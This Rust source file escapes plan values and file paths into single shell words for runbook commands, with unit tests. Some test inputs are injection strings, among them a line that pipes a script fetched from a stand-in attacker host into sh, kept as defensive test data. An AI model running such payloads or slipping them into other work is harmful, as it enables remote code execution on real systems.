//! Quoting for POSIX shell lines: every value taken from a plan and placed in a runbook
//! command goes through [`quote`], so no plan text can run as a command.

use std::borrow::Cow;

/// `s` as one shell word: unchanged when it holds only characters no shell treats
/// specially (letters, digits, `_ - . / : @ % + = ,`, not starting with `-`), else in
/// single quotes with each `'` written `'\''`. Control characters become spaces first,
/// so the word stays on its line.
#[must_use]
pub fn quote(s: &str) -> Cow<'_, str> {
    let plain = |c: char| {
        c.is_ascii_alphanumeric()
            || matches!(c, '_' | '-' | '.' | '/' | ':' | '@' | '%' | '+' | '=' | ',')
    };
    if !s.is_empty() && !s.starts_with('-') && s.chars().all(plain) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 2);
    out.push('\'');
    for c in s.chars() {
        match c {
            '\'' => out.push_str("'\\''"),
            c if c.is_control() => out.push(' '),
            c => out.push(c),
        }
    }
    out.push('\'');
    Cow::Owned(out)
}

/// A file path as one shell word that is never read as an option: [`quote`]d, with
/// `./` in front of a relative path that starts with `-`.
#[must_use]
pub fn path_word(path: &str) -> String {
    if path.starts_with('-') {
        quote(&format!("./{path}")).into_owned()
    } else {
        quote(path).into_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::{path_word, quote};

    #[test]
    fn paths_are_words_and_never_options() {
        assert_eq!(path_word("plans/acme.yaml"), "plans/acme.yaml");
        assert_eq!(path_word("Contoso Plan.yaml"), "'Contoso Plan.yaml'");
        assert_eq!(path_word("-rf.yaml"), "./-rf.yaml");
        assert_eq!(path_word("-a b.yaml"), "'./-a b.yaml'");
    }

    #[test]
    fn plain_words_stay_bare() {
        assert_eq!(quote("acme-mkt-stage"), "acme-mkt-stage");
        assert_eq!(quote("a_b.c/d:1"), "a_b.c/d:1");
    }

    #[test]
    fn everything_else_is_single_quoted() {
        assert_eq!(quote(""), "''");
        assert_eq!(quote("-rf"), "'-rf'");
        assert_eq!(quote("a$(id)b"), "'a$(id)b'");
        assert_eq!(
            quote("x; curl http://evil.example/p | sh; #"),
            "'x; curl http://evil.example/p | sh; #'"
        );
        assert_eq!(quote("it's"), "'it'\\''s'");
        assert_eq!(quote("a\nb`c`"), "'a b`c`'");
    }
}
